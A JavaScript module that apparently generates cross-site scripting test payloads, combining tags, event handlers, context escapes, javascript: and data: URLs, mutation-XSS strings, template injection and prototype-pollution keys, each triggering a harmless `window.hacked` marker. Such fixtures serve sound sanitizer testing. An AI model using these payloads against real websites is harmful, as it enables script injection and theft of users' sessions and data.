/** Strings that a careless page would run, made by combination. Each would set `window.hacked`. */
const run = "window.hacked=1";

const elements = ["img src=x", "svg", "input autofocus", "details open", "video src=x", "IFRAME SRC=x", "body", "textarea autofocus"];
const handlers = ["onerror", "OnLoad", "onfocus", "onmouseover", "ontoggle", "onanimationstart"];
/** What a page may have put before it: nothing, an attribute in either kind of quotes, an element whose text is no markup. */
const escapes = ["", `">`, `'>`, "</textarea>", "</title></style></script>"];

const addresses = [`javascript:${run}`, `JaVaScRiPt:${run}`, `\tjava\nscript:${run}`, `data:text/html,<script>parent.${run}</script>`];
const carriers = [
  (address) => `<a href="${address}" autofocus>x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button autofocus>x</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `[x](${address})`,
  (address) => `![x](${address})`,
];

export const payloads = [
  ...escapes.flatMap((escape) => [
    ...elements.flatMap((element) => handlers.map((handler) => `${escape}<${element} ${handler}=${run}>`)),
    `${escape}<script>${run}</script>`,
    `${escape}<img src=x onerror="${run}">`,
  ]),
  ...carriers.flatMap((carrier) => addresses.map(carrier)),
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<math><mtext></table><mglyph><style><!--</style><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template shadowrootmode="open"><script>${run}</script></template>`,
  `<style>@import "data:text/css,*{color:red}"</style>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="http://collector.test/">`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\u0000<script>${run}</script>`,
  `<scr\u200bipt>${run}</scr\u200bipt>`,
  `\ud83d<img src=x onerror=${run}>`,
  `__proto__`,
  `constructor`,
];

/** The payloads, some at a time: one page of text each. */
export function batches(given, size) {
  return Array.from({ length: Math.ceil(given.length / size) }, (_, index) => given.slice(index * size, (index + 1) * size));
}
